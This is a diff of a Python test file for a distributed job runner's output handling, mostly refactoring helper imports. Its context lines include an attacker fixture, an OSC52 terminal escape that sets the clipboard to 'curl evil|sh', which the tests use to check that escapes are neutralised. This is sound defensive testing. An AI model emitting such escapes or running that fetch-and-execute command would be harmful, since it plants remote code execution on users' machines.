@@ -24,7 +24,17 @@ import pytest
 from runner.errors import UserError
 from runner.node_output import CUT_MARK, MAX_LINE, LineSplitter, shown, visible
 from runner.plan import LABEL_NODE, LABEL_RANK, LABEL_RUN
-from tests.runner_helpers import REPO, finish_run, remotes, runner, runner_cmd, wait_for, write_job
+from tests.runner_helpers import (
+    REPO,
+    TORCHRUN_LOG,
+    finish_run,
+    job_part,
+    remotes,
+    runner,
+    runner_cmd,
+    wait_for,
+    write_job,
+)
 
 # ---- what the attacker writes ----------------------------------------------------------------
 OSC52 = b"\x1b]52;c;Y3VybCBldmlsfHNo\x07"          # clipboard := "curl evil|sh"
@@ -65,18 +75,6 @@ def expected_raw(long: int) -> bytes:
 
 def node_lines(out: str, prefix: str) -> list[str]:
     return [ln[len(prefix) + 1:] for ln in out.split("\n") if ln.startswith(prefix + " ")]
-
-
-# torchrun's own log lines after the job's output: a worker's agent whose exit barrier finds the
-# master's store gone (the master's agent left first, a race under load) says so on stderr.
-TORCHRUN_LOG = re.compile(r"\[?[WEI]\d{4} ")
-
-
-def job_part(lines: list[str]) -> list[str]:
-    """The job's own lines: up to its `end`; what follows must be torchrun's log, made visible."""
-    cut = lines.index("end") + 1 if "end" in lines else len(lines)
-    assert not lines[cut:] or TORCHRUN_LOG.match(lines[cut]), lines[cut:cut + 3]
-    return lines[:cut]
 
 
 def job_raw(raw: bytes, long: int) -> bytes:
